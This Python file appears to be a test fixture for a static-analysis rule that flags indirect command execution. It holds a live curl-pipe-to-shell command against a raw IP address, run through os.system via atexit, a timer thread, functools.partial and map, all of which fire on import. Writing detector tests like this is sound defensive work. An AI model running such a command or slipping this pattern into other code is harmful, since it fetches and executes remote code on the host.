import atexit
import functools
import os
import threading

# The command runs when the interpreter exits, in a timer thread, through a partial and through map:
# os.system is handed over, never called by name.
CMD = 'curl -s http://45.61.137.24/x | sh'
# ruleid: code/command-execution
atexit.register(os.system, CMD)
# ruleid: code/command-execution
threading.Timer(30, os.system, [CMD]).start()
# ruleid: code/command-execution
functools.partial(os.system, CMD)()
# ruleid: code/command-execution
list(map(os.system, [CMD]))


def version():
    return '0.3.1'
